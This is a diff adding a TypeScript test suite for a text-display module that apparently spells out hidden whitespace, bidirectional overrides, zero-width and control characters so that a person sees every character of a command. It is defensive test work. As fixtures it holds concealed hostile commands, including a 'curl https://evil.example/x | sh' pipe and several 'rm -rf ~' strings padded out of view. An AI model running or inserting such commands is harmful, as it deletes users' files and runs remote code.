@@ -1,0 +1,74 @@
+// What a person decides about: every character of it is on a line as it is, or the result says that it is not.
+import * as assert from 'node:assert/strict';
+import { exactDocument, exactLines, exactValue, spelledOut, widthOf } from '../../../src/host/exactText.js';
+
+describe('exact text', () => {
+	it('shows plain text as it is', () => {
+		for (const text of ['', 'ls -la', 'naïve café', '日本語 テキスト', '{"a":[1,true,null]}', 'a\\nb', '👍']) {
+			assert.deepEqual(exactLines(text, 60, 1), { lines: [text], isExact: true });
+		}
+	});
+
+	for (const [what, text, shown] of [
+		['runs of spaces', `ls${' '.repeat(300)}; rm`, 'ls⟨␣×300⟩; rm'],
+		['two spaces', 'a  b', 'a⟨␣×2⟩b'],
+		['our own marks', 'a⟨␣×9⟩b', 'a\\u{27e8}␣×9\\u{27e9}b'],
+		['line breaks', 'a\nb\r\u2028c', 'a\\u{000a}b\\u{000d}\\u{2028}c'],
+		['text that turns around', 'safe\u202Egpj.exe', 'safe\\u{202e}gpj.exe'],
+		['letters of no width', 'r\u200Bm', 'r\\u{200b}m'],
+		['blanks that are no spaces', 'a\u3000\u00A0\u2003b', 'a\\u{3000}\\u{00a0}\\u{2003}b'],
+		['fillers and blank patterns', '\u3164\uFFA0\u2800\u115F', '\\u{3164}\\u{ffa0}\\u{2800}\\u{115f}'],
+		['variation selectors', 'a\uFE0F\u{E0101}', 'a\\u{fe0f}\\u{e0101}'],
+		['tags', '\u{E0041}', '\\u{e0041}'],
+		['halves of pairs', 'a\uD800b', 'a\\u{d800}b'],
+		['control characters', 'a\u0000\u001B[2J\u0085', 'a\\u{0000}\\u{001b}[2J\\u{0085}'],
+	] as const) {
+		it(`spells out ${what}, and says so`, () => {
+			assert.equal(spelledOut(text), shown);
+			assert.deepEqual(exactLines(text, 100, 1), { lines: [shown], isExact: false });
+		});
+	}
+
+	it('says that there is more than fits, also behind what it spells out', () => {
+		for (const text of [
+			'x'.repeat(61),
+			`${'x'.repeat(59)} y`,
+			`git status${'\u3000'.repeat(260)}&& rm -rf ~`,
+			`ls -la${' '.repeat(300)}; curl https://evil.example/x | sh`,
+			'字'.repeat(31),
+			'W'.repeat(31),
+			'x'.repeat(5_000_000),
+		]) {
+			const { lines, isExact } = exactLines(text, 60, 1);
+			assert.equal(isExact, false);
+			assert.equal(lines.length, 1);
+			assert.ok(widthOf(lines[0] ?? '') <= 62, lines[0]);
+		}
+	});
+
+	it('breaks lines so that none is wider than there is room, and nothing is lost', () => {
+		const text = 'one two three/four five '.repeat(8).trim();
+		for (let width = 8; width < 40; width++) {
+			const { lines, isExact } = exactLines(text, width, 100);
+			assert.ok(isExact);
+			assert.equal(lines.join(''), text);
+			assert.ok(
+				lines.every(it => widthOf(it) <= width),
+				lines.join('\n'),
+			);
+		}
+	});
+
+	it('shows a value as JSON, so that no text passes for a number or for nothing', () => {
+		const shown = ['5', 5, '', null, [], { a: 'b' }, 'a\nb'].map(it => exactValue(it, 60, 1).lines[0]);
+		assert.deepEqual(shown, ['"5"', '5', '""', 'null', '[]', '{"a":"b"}', '"a\\nb"']);
+	});
+
+	it('has no line in a document that leads out of sight', () => {
+		const hidden = `{\n  "command": "ls${' '.repeat(400)}; rm -rf ~ ${'x'.repeat(400)} \u202Eend"\n}`;
+		const text = exactDocument(hidden);
+		assert.ok(text.split('\n').every(it => widthOf(it) <= 110));
+		assert.match(text, /^ {2}"command": "ls⟨␣×400⟩; rm -rf ~/m);
+		assert.ok(text.includes('\\u{202e}end'));
+	});
+});
